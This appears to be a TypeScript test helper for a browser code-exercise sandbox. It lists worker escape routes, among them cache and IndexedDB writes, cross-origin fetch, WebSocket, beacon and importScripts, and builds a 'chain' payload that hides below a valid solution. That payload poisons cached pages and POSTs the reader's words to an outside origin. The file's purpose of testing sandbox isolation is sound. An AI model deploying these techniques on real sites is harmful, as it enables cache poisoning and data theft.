/**
 * Hostile programs, for the exercises. `theirs` is the address of another origin that counts who asks for it, `ours` that of the
 * site. Neither may be asked, and nothing may be stored.
 */
interface Addresses {
  theirs: string;
  ours: string;
}

/** A store that a program leaves behind if it can, by this name; and the page it would poison. */
export const LOOT = "stolen";
export const POISONED = "/chapters/low-rank/";

/**
 * The ways out, each an async function that ends well if it got out. They are run in the worker of the frame without the harness,
 * which would refuse many of them by name: the frame alone has to hold.
 */
const ways = `
  caches: async () => {
    // WebKit gives such an origin caches of its own, which is no way out: those of the site are not among them.
    await (await caches.open(LOOT)).put(OURS + POISONED, new Response("poison"));
    if (!(await caches.has("kept"))) throw new Error("not the site's");
  },
  "caches, by the prototype": async () =>
    (await Object.getOwnPropertyDescriptor(WorkerGlobalScope.prototype, "caches").get.call(self).open(LOOT)).add(OURS),
  indexedDB: () => answer(indexedDB.open(LOOT)),
  "private files": async () => (await navigator.storage.getDirectory()).getFileHandle(LOOT, {create: true}),
  locks: () => navigator.locks.request(LOOT, () => {}),
  cookies: () => cookieStore.set(LOOT, "1"),
  "fetch elsewhere": () => fetch(THEIRS + "fetch", {mode: "no-cors"}),
  "fetch here": () => fetch(OURS + "/favicon.svg?leak"),
  "fetch, by the prototype": () => WorkerGlobalScope.prototype.fetch.call(self, THEIRS + "fetch2", {mode: "no-cors"}),
  XMLHttpRequest: () => {
    const request = new XMLHttpRequest();
    request.open("GET", THEIRS + "xhr");
    request.send();
    return answer(request);
  },
  WebSocket: () => answer(new WebSocket(THEIRS.replace("http", "ws") + "socket")),
  EventSource: () => answer(new EventSource(THEIRS + "events")),
  WebTransport: () => new WebTransport(THEIRS.replace("http:", "https:") + "transport").ready,
  beacon: async () => navigator.sendBeacon(THEIRS + "beacon"),
  WebRTC: async () => new RTCPeerConnection({iceServers: [{urls: "stun:" + new URL(THEIRS).host}]}),
  font: () => new FontFace("loot", "url(" + THEIRS + "font)").load(),
  importScripts: async () => importScripts(THEIRS + "scripts.js"),
  "importScripts, here": async () => importScripts(OURS + "/_astro/leak.js"),
  "import()": () => import(THEIRS + "module.js"),
  "import() of text": () => import("data:text/javascript,export default 1"),
  "import() of a blob": () => import(blob("export default 1")),
  eval: async () => (0, eval)("1"),
  Function: async () => Function("return 1")(),
  "a constructor's constructor": async () => (async () => {}).constructor("return 1")(),
  "a worker from here": () => answer(new Worker(OURS + "/_astro/leak.js")),
  "a worker from elsewhere": () => answer(new Worker(THEIRS + "worker.js")),
  "a worker in the worker": () =>
    answer(new Worker(blob("fetch('" + THEIRS + "nested', {mode: 'no-cors'}).then(() => postMessage(1), () => {throw 1})"))),
  "a shared worker": () => answer(new SharedWorker(blob("1")).port),
  "a service worker": () => navigator.serviceWorker.register(OURS + "/sw.js?leak"),
  channel: async () => {
    new BroadcastChannel(LOOT).postMessage("out");
    await new Promise(() => {});
  },
  "a window": async () => open(THEIRS + "window"),
  "the page around": async () => top.location.assign(THEIRS + "top"),
  "the parent": async () => parent.postMessage("out", "*"),
  document: async () => document.body,
`;

/** A worker's source that tries every way at once. It sends how each one ended: "got", or what refused it. */
export const allWays = ({theirs, ours}: Addresses): string => `
const [THEIRS, OURS, LOOT, POISONED] = ${JSON.stringify([`${theirs}/`, ours, LOOT, POISONED])};
const blob = (text) => URL.createObjectURL(new Blob([text], {type: "text/javascript"}));
const answer = (one) => new Promise((resolve, reject) => {
  one.onerror = one.onblocked = (event) => { event.preventDefault?.(); reject(one.error ?? new Error(event.type)); };
  one.onload = one.onopen = one.onmessage = one.onsuccess = one.onupgradeneeded = resolve;
});
const late = new Promise((resolve) => setTimeout(resolve, 1500, "silence"));
const ways = {${ways}};
const ends = Object.entries(ways).map(async ([name, way]) => {
  const tried = (async () => way())().then(() => "got", (error) => "refused: " + error?.name);
  return [name, await Promise.race([tried, late])];
});
Promise.all(ends).then((all) => postMessage(Object.fromEntries(all)));
`;

/** Runs a worker's source in the frame for programs, as the page does but without the harness. Runs in the page. */
export const runBare = (source: string): Promise<unknown> =>
  new Promise((resolve) => {
    const {content} = document.querySelector<HTMLTemplateElement>("template.program-frame")!;
    const frame = document.importNode(content, true).querySelector("iframe")!;
    const {port1, port2} = new MessageChannel();
    port1.onmessage = ({data}) => {
      frame.remove();
      resolve("said" in data ? data.said : data);
    };
    frame.onload = () => frame.contentWindow!.postMessage(source, "*", [port2]);
    document.body.append(frame);
  });

/** What a program left behind on the device, and whether it changed a page that was kept. Runs in the page. */
export const leftBehind = async (loot: string, poisoned: string) => ({
  caches: (await caches.keys()).filter((name) => name === loot),
  poisoned: (await (await caches.match(poisoned))?.text()) ?? "",
  databases: (await indexedDB.databases()).map(({name}) => name),
});

/**
 * The attack that once took over the kept site: a right function, and out of sight below it what reaches for the getters on the
 * prototypes, which no list of doors had shut. It dodges the end at \`done\` by an error that its own listener swallows, and then
 * has two seconds.
 */
export const chain = (solution: string, {theirs, ours}: Addresses): string => `${solution}
${"\n".repeat(60)}
addEventListener("error", (event) => event.preventDefault());
const proto = WorkerGlobalScope.prototype;
const get = (name) => Object.getOwnPropertyDescriptor(proto, name).get.call(self);
const tries = [
  async () => {
    const caches = get("caches");
    for (const name of [...await caches.keys(), "${LOOT}"])
      await (await caches.open(name)).put("${ours}${POISONED}", new Response("poison", {headers: {"content-type": "text/html"}}));
  },
  async () => get("indexedDB").open("${LOOT}"),
  async () => proto.fetch.call(self, "${theirs}/words", {method: "POST", mode: "no-cors", body: "the reader's own words"}),
  async () => get("navigator").serviceWorker.register("${ours}/sw.js?leak"),
  async () => proto.importScripts.call(self, "${theirs}/scripts.js"),
  async () => import("${theirs}/module.js"),
];
const tryAll = () => tries.forEach((one) => one().catch(() => {}));
tryAll();
setInterval(tryAll, 300);
`;
